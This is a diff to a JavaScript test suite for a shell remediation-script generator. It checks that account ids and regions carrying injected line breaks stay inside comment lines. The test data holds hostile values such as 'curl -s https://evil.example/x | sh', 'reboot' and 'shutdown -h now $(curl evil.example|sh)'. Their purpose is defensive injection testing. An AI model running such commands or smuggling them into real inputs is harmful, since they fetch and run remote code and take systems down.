@@ -33,6 +33,29 @@ describe('remediationScript', () => {
     const [shebang, ...lines] = script.trimEnd().split(/\r\n|\r|\n|\u2028|\u0085/);
     expect(shebang).toBe('#!/bin/sh');
     expect(lines.filter((line) => !line.startsWith('#'))).toEqual([]);
+    // An account id or region as a hostile endpoint might answer them stays in its heading.
+    const owned = remediationScript(
+      auditOutcome(
+        emptyScan({
+          unassociatedEips: [
+            eipRow({
+              accountId: '111111111111\ncurl -s https://evil.example/x | sh\n#',
+              region: 'us-east-1\rreboot',
+            }),
+          ],
+        }),
+      ),
+    );
+    expect(
+      owned
+        .trimEnd()
+        .split(/\r\n|\r|\n/)
+        .slice(1)
+        .filter((l) => !l.startsWith('#')),
+    ).toEqual([]);
+    expect(owned).toContain(
+      '# ==== Account 111111111111 curl -s https://evil.example/x | sh #, region us-east-1 reboot ====',
+    );
     // The id is still there, whole and quoted, for a person to read.
     expect(script).toContain(
       "# aws ec2 modify-network-interface-attribute --network-interface-id 'eni-1 reboot shutdown -h now $(curl evil.example|sh)'",
